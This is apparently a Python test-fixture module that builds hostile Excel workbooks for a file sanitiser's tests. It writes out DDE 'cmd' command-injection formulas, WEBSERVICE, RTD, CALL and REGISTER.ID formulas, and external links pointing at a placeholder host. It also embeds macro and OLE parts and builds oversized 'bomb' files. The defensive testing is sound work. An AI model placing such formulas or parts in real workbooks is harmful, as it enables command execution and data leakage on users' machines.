"""Excel workbooks that fetch, run, carry or unfold. The honest parts are xlsxwriter's."""

import io
import zipfile

from tests.registry.documents import honest
from tests.registry.documents.honest import OFFICE, REL
from tests.registry.documents.hostile import Case
from tests.registry.documents.hostile.images import _with_place

MARK = "evil-0815.example"
FORMULAS = {
    "dde": f"=cmd|'/c {MARK}'!A1",
    "dde without quotes": f"=cmd|{MARK}!A1",
    "dde behind a plus": f"=1+cmd|'/c {MARK}'!A1",
    "another workbook": f"='C:\\{MARK}\\[a.xlsx]Feuille'!A1",
    "another workbook of the web": f"='https://{MARK}/[a.xlsx]S'!A1",
    "web service": f'=_xlfn.WEBSERVICE("http://{MARK}/")',
    "web service in small letters": f'=_xlfn.webservice ("http://{MARK}/")',
    "picture": f'=_xlfn.IMAGE("http://{MARK}/a.png")',
    "real time": f'=RTD("{MARK}",,"a")',
    "call": f'=CALL("{MARK}","a","JJ")',
    "register": f'=REGISTER.ID("{MARK}","a")',
    "link to a file": f'=HYPERLINK("file:///{MARK}","ici")',
    "link to a share": f'=HYPERLINK("\\\\{MARK}\\a","ici")',
}


def changed(data, parts=None, replace=None):
    """The same workbook with parts added and pieces of text replaced: {part: (before, after)}."""
    with zipfile.ZipFile(io.BytesIO(data)) as found:
        all_ = {name: found.read(name) for name in found.namelist()}
    for name, (before, after) in (replace or {}).items():
        assert before.encode() in all_[name], name
        all_[name] = all_[name].replace(before.encode(), after.encode(), 1)
    return honest.zipped({**all_, **(parts or {})})


def linked(type_, target, part, content, content_type, element="", out=False):
    """A workbook that refers to one more part, or to something outside."""
    mode = ' TargetMode="External"' if out else ""
    replace = {
        "xl/_rels/workbook.xml.rels": ("</Relationships>", f'<Relationship Id="rX" Type="{REL}/{type_}" Target="{target}"{mode}/></Relationships>'),
        "[Content_Types].xml": ("</Types>", f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>' if part else "</Types>"),
        "xl/workbook.xml": ("</workbook>", f"{element}</workbook>"),
    }  # fmt: skip
    return changed(honest.workbook(), {part: content} if part else {}, replace)


def cases():
    mark, stays = (MARK.encode(),), honest.WORDS.encode()
    for name, formula in FORMULAS.items():
        data = honest.workbook(lambda _book, sheet, formula=formula: sheet.write_formula(3, 0, formula, None, 7))
        yield Case("formula", name, data, mark, stays, "outside_link", "xlsxwriter")
    named = honest.workbook(lambda book, _sheet: book.define_name("Piege", f"=cmd|'/c {MARK}'!A1"))
    yield Case("formula", "by name", named, mark, stays, "outside_link", "xlsxwriter")
    checked = honest.workbook(
        lambda _book, sheet: sheet.data_validation("A9", {"validate": "custom", "value": f"=cmd|'{MARK}'!A1"})
    )
    yield Case("formula", "in a check", checked, mark, stays, "outside_link", "xlsxwriter")
    coloured = honest.workbook(
        lambda book, sheet: sheet.conditional_format(
            "A9", {"type": "formula", "criteria": f"=cmd|'{MARK}'!A1", "format": book.add_format()}
        )
    )
    yield Case("formula", "in a colour", coloured, mark, stays, "outside_link", "xlsxwriter")
    for address in (f"file:///{MARK}/x", f"external:\\\\{MARK}\\a.xlsx"):
        data = honest.workbook(lambda _book, sheet, address=address: sheet.write_url(4, 0, address, string="ici"))
        yield Case("link", address[:9], data, mark, stays, "outside_link", "xlsxwriter")
    yield from _parts(mark, stays)
    yield from _tales(stays)
    yield from _unfolding()


def _parts(mark, stays):
    sheets = f"{OFFICE}.spreadsheetml"
    external = f'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c {MARK}"/></externalLink>'
    yield Case("excel that carries", "external dde", linked(
        "externalLink", "externalLinks/externalLink1.xml", "xl/externalLinks/externalLink1.xml", external, f"{sheets}.externalLink+xml",
        '<externalReferences><externalReference r:id="rX"/></externalReferences>'), mark, stays, "outside_link")  # fmt: skip
    yield Case("excel that carries", "connections", linked(
        "connections", "connections.xml", "xl/connections.xml", f"<connections>{MARK}</connections>", f"{sheets}.connections+xml"),
        mark, stays, "outside_link")  # fmt: skip
    yield Case("excel that carries", "pivot", linked(
        "pivotCacheDefinition", "pivotCache/a.xml", "xl/pivotCache/a.xml", f"<a>{MARK}</a>", f"{sheets}.pivotCacheDefinition+xml",
        '<pivotCaches><pivotCache cacheId="1" r:id="rX"/></pivotCaches>'), mark, stays, "attachment")  # fmt: skip
    yield Case(
        "macros",
        "excel",
        linked("vbaProject", "vbaProject.bin", "xl/vbaProject.bin", MARK, "application/vnd.ms-office.vbaProject"),
        mark,
        stays,
        "macro",
    )
    yield Case(
        "macros",
        "sheet of macros",
        linked(
            "xlMacrosheet",
            "macrosheets/sheet1.xml",
            "xl/macrosheets/sheet1.xml",
            f"<xm:macrosheet>{MARK}",
            "application/vnd.ms-excel.macrosheet+xml",
        ),
    )
    yield Case(
        "excel that carries",
        "remote",
        linked("externalLinkPath", f"http://{MARK}/a.xlsx", "", "", "", out=True),
        mark,
        stays,
        "outside_link",
    )
    path = f'<mc:AlternateContent xmlns:mc="m" xmlns:x="x"><mc:Choice Requires="x"><x:absPath url="C:/{MARK}"/></mc:Choice></mc:AlternateContent>'
    yield Case("tells", "path of a workbook", changed(honest.workbook(), replace={"xl/workbook.xml": ("<sheets>", f"{path}<sheets>")}),
               mark, stays, "metadata")  # fmt: skip
    objects = '<oleObjects><oleObject progId="Package" r:id="rO"/></oleObjects></worksheet>'
    data = changed(
        honest.workbook(),
        {
            "xl/embeddings/a.bin": MARK,
            "xl/worksheets/_rels/sheet1.xml.rels": honest.rels(("rO", "oleObject", "../embeddings/a.bin")),
        },
        {"xl/worksheets/sheet1.xml": ("</worksheet>", objects)},
    )
    yield Case("excel that carries", "object", data, mark, stays, "attachment")


def _tales(stays):
    def fill(book, sheet):
        book.set_properties({"author": MARK, "comments": MARK})
        sheet.write_comment("A5", "note", {"author": MARK})
        sheet.insert_image("A9", "a.jpg", {"image_data": io.BytesIO(honest.jpeg(exif=_with_place()))})

    gone = (MARK.encode(), b"Camera of Zoe")
    yield Case("tells", "author, note, place of a photo", honest.workbook(fill), gone, stays, "place", "xlsxwriter")


def _unfolding():
    strings = "".join(f"<si><t>{number}</t></si>" for number in range(1_000_000))
    head = '<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    many = changed(honest.workbook(), {"xl/sharedStrings.xml": f"{head}{strings}</sst>"})
    yield Case("bomb", "a million strings", many)
    wide = changed(honest.workbook(), {"xl/sharedStrings.xml": f"{head}<si><t>{'a' * 50_000_000}</t></si></sst>"})
    yield Case("bomb", "one long string", wide)
    good = honest.workbook()
    for part in (0.1, 0.5, 0.9):
        yield Case("cut short", f"xlsx at {part}", good[: int(len(good) * part)])
    yield Case("other kind", "binary workbook", _binary())


def _binary():
    parts = honest.docx_parts(main="application/vnd.ms-excel.sheet.binary.macroEnabled.main")
    return honest.zipped(parts)
